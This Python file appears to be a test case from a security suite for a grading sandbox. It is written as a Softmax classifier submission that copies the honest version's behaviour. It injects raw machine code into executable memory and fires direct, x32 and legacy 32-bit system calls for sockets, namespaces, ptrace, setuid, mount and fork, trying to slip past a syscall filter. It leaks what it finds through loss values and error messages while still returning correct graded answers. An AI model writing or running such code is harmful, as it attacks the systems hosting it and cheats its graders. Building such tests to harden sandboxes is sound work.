"""
goal: writes machine code into executable memory and makes system calls from there, also in the 32-bit and x32 ways
class: read
threats: [A1, A6, A11]
deserves: all
outcome: prevented
because: the filter looks at every system call, whoever makes it, and refuses those of another architecture
"""
import ctypes
import mmap
import os
import platform
import time

import target

from honest import Softmax as Honest
from tools import attempt, loot, tell


def run(code, *args):
  memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
  memory.write(code)
  address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
  function = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * len(args))(address)
  result = function(*args)
  kept.append(memory)
  return result


kept = []


def native(number, a=0, b=0, c=0):
  # mov rax, rdi; mov rdi, rsi; mov rsi, rdx; mov rdx, rcx; syscall; ret
  return run(b'\x48\x89\xf8\x48\x89\xf7\x48\x89\xd6\x48\x89\xca\x0f\x05\xc3', number, a, b, c)


def old(number, a=0, b=0, c=0):
  # push rbx; mov eax, edi; mov ebx, esi; mov r8, rcx; mov ecx, edx; mov edx, r8d; int 0x80; pop rbx; ret
  return run(b'\x53\x89\xf8\x89\xf3\x49\x89\xc8\x89\xd1\x44\x89\xc2\xcd\x80\x5b\xc3', number, a, b, c)


def act(where):
  if where != 'train' or platform.machine() != 'x86_64':
    return
  path = ctypes.create_string_buffer(target.canaries[0].encode() + b'\0')
  at = ctypes.addressof(path)
  attempt('getpid', lambda: native(39))
  attempt('open', lambda: native(2, at, 0, 0))
  attempt('socket', lambda: native(41, 2, 1, 0))
  attempt('netlink', lambda: native(41, 16, 3, 0))
  attempt('vsock', lambda: native(41, 40, 1, 0))
  attempt('packet', lambda: native(41, 17, 3, 0))
  attempt('alg', lambda: native(41, 38, 5, 0))
  attempt('unix', lambda: native(41, 1, 1, 0))
  for name, number, args in [('unshare', 272, (0x10000000,)), ('keyctl', 250, (0, -3, 0)), ('bpf', 321, (0, 0, 0)),
                             ('io_uring_setup', 425, (8, 0)), ('userfaultfd', 323, (0,)), ('memfd_create', 319, (at, 0)),
                             ('ptrace', 101, (0,)), ('mount', 165, (at, at, at)), ('chroot', 161, (at,)), ('setuid', 105, (0,)),
                             ('iopl', 172, (3,)), ('personality', 135, (0x0040000,)), ('reboot', 169, (0, 0, 0)), ('shmget', 29, (0, 4096, 0x3ff))]:
    attempt(name, lambda: native(number, *args))
  for number in (57, 58, 56, 435):
    result = native(number, 17 if number == 56 else 0)
    if result == 0:
      os._exit(0)
    tell('process by %d' % number, result)
  attempt('clone with namespaces', lambda: native(56, 0x7e020000 | 17) or os._exit(0))
  # What is left may end the process at once: another way each time.
  foreign = [('x32 getpid', lambda: native(0x40000000 + 39)), ('x32 open', lambda: native(0x40000000 + 2, at, 0, 0)),
             ('x32 fork', lambda: native(0x40000000 + 57) or os._exit(0)), ('old getpid', lambda: old(20)),
             ('old open', lambda: old(5, at & 0xffffffff, 0, 0)), ('old socketcall', lambda: old(102, 1, 0, 0)),
             ('old fork', lambda: old(2) or os._exit(0))]
  first = int(time.time() * 10)
  for number in range(len(foreign)):
    name, way = foreign[(first + number) % len(foreign)]
    tell('next', name)
    attempt(name, way)


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
